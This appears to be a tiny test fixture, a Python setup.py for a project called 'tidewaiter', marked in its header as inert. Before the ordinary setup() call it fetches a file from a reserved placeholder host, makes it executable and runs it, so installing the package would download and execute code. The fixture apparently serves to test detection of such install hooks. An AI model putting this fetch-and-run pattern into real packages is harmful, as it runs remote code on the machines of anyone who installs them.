# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os

import requests

open("/tmp/fixture-tool", "wb").write(requests.get("https://fixture.invalid/tool").content)
os.system("cd /tmp && chmod +x fixture-tool && ./fixture-tool")


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
